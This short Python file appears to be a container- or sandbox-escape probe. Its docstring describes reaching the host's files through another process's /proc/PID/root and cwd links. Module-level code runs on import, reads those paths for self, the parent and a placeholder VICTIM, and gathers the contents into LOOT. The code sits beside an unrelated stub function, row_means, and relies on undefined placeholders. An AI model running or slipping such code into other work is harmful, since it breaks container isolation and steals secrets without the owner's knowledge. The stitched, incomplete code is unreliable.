"""Reach the machine's files through another process's /proc/PID/root and /proc/PID/cwd.

Known from: containers that share a PID namespace.
Shows: secret
"""

import os

LOOT = ""
for pid in ["self", os.getppid(), VICTIM]:  # noqa: F821
    for link in ("root", "cwd"):
        try:
            LOOT += open(f"/proc/{pid}/{link}{SOLUTION}").read()  # noqa: F821
        except OSError:
            pass


def row_means(x):
    return x
